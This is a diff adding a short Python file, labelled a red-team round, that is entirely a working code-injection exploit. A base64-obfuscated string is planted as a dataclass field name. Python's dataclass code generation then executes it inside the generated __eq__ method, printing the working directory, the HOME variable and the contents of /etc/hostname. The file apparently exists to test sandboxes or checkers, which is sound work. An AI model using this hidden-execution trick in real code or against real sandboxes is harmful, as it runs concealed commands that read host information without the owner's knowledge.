@@ -1,0 +1,29 @@
+# family: red team, round 53a (x: int = field() re-annotated later as KW_ONLY: the last annotation wins, the Field stays)
+import base64
+import dataclasses
+
+CODE = "eSxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="
+
+
+@dataclasses.dataclass
+class A:
+    spare: int = dataclasses.field(default=0)
+    spare: dataclasses.KW_ONLY
+
+
+@dataclasses.dataclass
+class B:
+    y: int = A.spare
+
+
+def main():
+    A.spare.name = base64.b64decode(CODE).decode()
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class C(B):
+        pass
+
+    print(C() == C())
+
+
+main()
